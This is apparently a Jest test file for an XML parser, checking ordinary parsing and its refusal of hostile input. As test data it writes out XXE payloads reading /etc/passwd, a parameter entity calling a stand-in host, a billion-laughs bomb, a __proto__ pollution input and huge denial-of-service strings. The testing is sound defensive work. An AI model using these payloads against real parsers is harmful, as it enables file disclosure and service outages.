import { expect, test } from '@jest/globals';
import { xmlValue } from '../../../../subgraphs/connectors/kit/xml.ts';

test('elements become objects, repeated ones lists, empty ones empty texts; numbers keep their zeros', () => {
  const text = `<?xml version="1.0"?><!-- kota --><requests xmlns="urn:x"><request id="9"><id>007</id><notes/>
    <lat>1.50</lat></request><request><id>8</id></request></requests>`;
  expect(xmlValue(text)).toEqual({ requests: { request: [{ id: '007', notes: '', lat: '1.50' }, { id: '8' }] } });
});

test('entities of XML and of characters are read, CDATA stays as it is, also where it speaks of a DOCTYPE', () => {
  const text = '<a><b>A &amp; B &lt;i&gt; &#233;&#xE9;</b><c><![CDATA[<!DOCTYPE x> & <b>]]></c></a>';
  expect(xmlValue(text)).toEqual({ a: { b: 'A & B <i> éé', c: '<!DOCTYPE x> & <b>' } });
});

test('a bare ampersand of a careless city is read as one', () => {
  expect(xmlValue('<a><b>Jalan A & B</b><c>x=1&y=2</c></a>')).toEqual({ a: { b: 'Jalan A & B', c: 'x=1&y=2' } });
});

const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`).join('');

test.each<[string, string]>([
  ['a billion laughs', `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY lol0 "lol">${LAUGHS}]><a>&lol9;</a>`],
  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]><a/>'],
  ['a document type of its own', '<!DOCTYPE html SYSTEM "http://evil.invalid/x.dtd"><a/>'],
  ['a document type in small letters', '<!doctype a><a/>'],
  ['a document type inside the document', '<a><!DOCTYPE a [<!ENTITY x "y">]>&x;</a>'],
  ['a document type behind a comment', '<!-- <![CDATA[ --><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'],
  ['an entity declared without a type', '<a><!ENTITY x "y">&x;</a>'],
])('%s is refused before anything is read', (_, text) => {
  expect(() => xmlValue(text)).toThrow('declares a document type');
});

test.each<[string, string]>([
  ['a document that is cut off', '<a><b>1</b><b>'],
  ['one that is cut off inside a tag', '<a><b>1</b'],
  ['one that is cut off inside CDATA', '<a><![CDATA[x'],
  ['one with crossed tags', '<a><b></a></b>'],
  ['a text', 'Fatal error: mysql gone'],
  ['one with the name of a trap', '<a><__proto__><polluted>1</polluted></__proto__></a>'],
])('%s is refused', (_, text) => {
  expect(() => xmlValue(text)).toThrow();
  expect(({} as { polluted?: string }).polluted).toBeUndefined();
});

test('nesting is capped', () => {
  const nested = (levels: number) => `${'<a>'.repeat(levels)}${'</a>'.repeat(levels)}`;
  expect(() => xmlValue(nested(60))).not.toThrow();
  for (const levels of [70, 50_000]) expect(() => xmlValue(nested(levels))).toThrow();
});

test.each<[string, string]>([
  ['comments never closed', '<!--'.repeat(500_000)],
  ['CDATA never closed', '<a><![CDATA['.repeat(200_000)],
  ['tags never closed', '<a'.repeat(500_000)],
  ['ampersands', `<a>${'&'.repeat(1_000_000)}</a>`],
  ['attributes', `<a ${'x="1" '.repeat(200_000)}/>`],
  ['declarations', '<!'.repeat(500_000)],
])('a megabyte of %s is dealt with in a moment', (_, text) => {
  const before = performance.now();
  try {
    xmlValue(text);
  } catch {
    // Whether it can be read is not the question here.
  }
  expect(performance.now() - before).toBeLessThan(3_000);
});
